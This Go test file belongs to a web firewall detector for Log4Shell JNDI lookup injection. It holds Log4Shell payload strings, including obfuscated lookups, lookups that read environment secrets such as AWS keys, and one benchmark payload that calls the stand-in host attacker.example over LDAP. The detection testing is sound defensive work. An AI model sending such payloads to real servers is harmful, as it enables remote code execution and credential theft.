package jndi

import (
	"strings"
	"testing"

	"rampart/internal/waf/dataset"
	"rampart/internal/waf/detect"
)

func TestCorpus(t *testing.T) {
	d := New()
	for _, s := range readCorpus(t, "attack.txt", detect.KindHeader) {
		if !caught(d, s.Kind, s.Name, s.Value) {
			_, ms := score(d, &detect.Input{Value: s.Value, Raw: s.Value, Kind: s.Kind, Name: s.Name})
			t.Errorf("attack.txt:%d: Detect(%s %q) = %v, want a score of 5", s.Line, s.Kind, s.Value, ms)
		}
	}
	for _, s := range readCorpus(t, "benign.txt", detect.KindHeader) {
		if caught(d, s.Kind, s.Name, s.Value) {
			_, ms := score(d, &detect.Input{Value: s.Value, Raw: s.Value, Kind: s.Kind, Name: s.Name})
			t.Errorf("benign.txt:%d: Detect(%s %q) = %v, want below 5", s.Line, s.Kind, s.Value, ms)
		}
	}
}

func TestResolve(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "abc", "abc"},
		{"lower", "${lower:JNDI}", "jndi"},
		{"upper", "${upper:ı}", "I"},
		{"default", "${::-j}${:-n}", "jn"},
		{"env default", "${env:NOPE:-d}", "d"},
		{"date literal", "${date:'i'}", "i"},
		{"nested", "${${lower:L}ower:X}", "x"},
		{"unresolved", "${hostName}.x", "${hostName}.x"},
		{"jndi unresolved", "${jndi:ldap://a/b}", "${jndi:ldap://a/b}"},
		{"unclosed", "${lower:AB", "ab"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var r resolver
			if got := string(r.resolve(nil, tt.in, 0)); got != tt.want {
				t.Errorf("resolve(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestRules(t *testing.T) {
	tests := []struct {
		name, in, rule string
		score          int
	}{
		{"ldap", "${jndi:ldap://x/a}", "jndi.lookup", 5},
		{"other", "${jndi:java:comp/env}", "jndi.lookup", 4},
		{"obfuscated", "${${lower:j}${lower:n}${lower:d}i:x}", "jndi.obfuscation", 4},
		{"env", "${env:PATH}", "jndi.exfiltration", 3},
		{"secret", "${env:AWS_SECRET_ACCESS_KEY}", "jndi.exfiltration", 4},
	}
	d := New()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ms := d.Detect(&detect.Input{Value: tt.in, Raw: tt.in, Kind: detect.KindHeader}, nil)
			for _, m := range ms {
				if m.Rule == tt.rule && m.Score == tt.score {
					if m.Off < 0 || m.Off+m.Len > len(tt.in) {
						t.Errorf("Detect(%q) locates %d+%d outside the value", tt.in, m.Off, m.Len)
					}
					return
				}
			}
			t.Errorf("Detect(%q) = %v, want %s with score %d", tt.in, ms, tt.rule, tt.score)
		})
	}
}

func TestBounds(t *testing.T) {
	d := New()
	for _, v := range []string{
		strings.Repeat("${", 30000),
		strings.Repeat("${lower:", 8000) + "x" + strings.Repeat("}", 8000),
		strings.Repeat("${x}", 16000) + "${jndi:ldap://x/a}",
		strings.Repeat("${::-${::-", 3000),
	} {
		ms := d.Detect(&detect.Input{Value: v, Raw: v, Kind: detect.KindHeader}, nil)
		_ = ms
	}
	v := strings.Repeat("${x}", 16000) + "${jndi:ldap://x/a}"
	if s, _ := score(d, &detect.Input{Value: v, Raw: v, Kind: detect.KindHeader}); s < 5 {
		t.Errorf("a jndi lookup after 16000 others scores %d, want 5", s)
	}
}

// FuzzResolve checks the resolver never panics, stays in its bounds and
// leaves text without lookups alone.
func FuzzResolve(f *testing.F) {
	for _, s := range readCorpus(f, "attack.txt", detect.KindHeader) {
		f.Add(s.Value)
	}
	f.Add("${${${${")
	f.Add("}}}${")
	d := New()
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 4096 {
			return
		}
		var r resolver
		out := r.resolve(nil, s, 0)
		if len(out) > maxOut {
			t.Errorf("resolve(%q) gave %d bytes, over the bound", s, len(out))
		}
		if !strings.Contains(s, "${") && string(out) != s {
			t.Errorf("resolve(%q) = %q, want it unchanged", s, out)
		}
		for _, m := range d.Detect(&detect.Input{Value: s, Raw: s, Kind: detect.KindHeader}, nil) {
			if m.Off < 0 || m.Off+m.Len > len(s) {
				t.Errorf("Detect(%q) locates %+v outside the value", s, m)
			}
		}
	})
}

// TestDatasets measures false positives over every benign sample; the
// data sets have no class of their own for Log4Shell, so detection is
// measured on the samples of any class that hold a jndi lookup.
func TestDatasets(t *testing.T) {
	_, fp := measure(t, New(), readCorpus(t, "benign.txt", detect.KindHeader))
	if fp > 0 {
		t.Errorf("%d false positives", fp)
	}
	dir, err := dataset.Dir()
	if err != nil {
		t.Skipf("data sets not found: %v", err)
	}
	gw, err := dataset.GoTestWAF(dir)
	if err != nil {
		t.Fatal(err)
	}
	total, hit := 0, 0
	for _, s := range gw {
		if s.Class == dataset.Benign || !strings.Contains(strings.ToLower(s.Payload), "jndi") {
			continue
		}
		total++
		if caught(New(), detect.KindHeader, "user-agent", s.Payload) {
			hit++
		} else {
			t.Errorf("missed %q", s.Payload)
		}
	}
	t.Logf("jndi: detected %d/%d data-set samples holding a jndi lookup", hit, total)
}

func TestAllocs(t *testing.T) {
	d := New()
	dst := make([]detect.Match, 0, 8)
	in := detect.Input{Value: "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0", Kind: detect.KindHeader}
	if n := testing.AllocsPerRun(100, func() { dst = d.Detect(&in, dst[:0]) }); n > 0 {
		t.Errorf("Detect allocates %v times on a benign value, want 0", n)
	}
}

func benchmark(b *testing.B, v string) {
	d := New()
	in := detect.Input{Value: v, Raw: v, Kind: detect.KindHeader, Name: "user-agent"}
	dst := make([]detect.Match, 0, 8)
	b.ReportAllocs()
	for b.Loop() {
		dst = d.Detect(&in, dst[:0])
	}
}

func BenchmarkBenign(b *testing.B) {
	benchmark(b, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36")
}
func BenchmarkBenignTemplate(b *testing.B) {
	benchmark(b, "Hello ${user.name}, your order ${order.id} has shipped")
}
func BenchmarkAttack(b *testing.B) {
	benchmark(b, "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}")
}
